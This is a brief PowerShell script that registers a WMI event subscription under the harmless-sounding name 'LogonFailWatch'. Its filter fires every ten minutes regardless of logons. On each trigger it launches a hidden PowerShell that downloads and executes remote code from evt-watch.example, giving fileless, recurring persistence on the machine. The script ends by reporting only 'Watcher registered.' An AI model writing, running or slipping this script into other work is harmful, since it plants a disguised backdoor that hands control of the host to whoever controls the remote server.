$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
  Name = 'LogonFailWatch'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
  Query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$cmd = 'powershell -nop -w hidden -c "iex(irm https://evt-watch.example/w)"'
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
  Name = 'LogonFailWatch'; CommandLineTemplate = $cmd
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
Write-Host 'Watcher registered.'
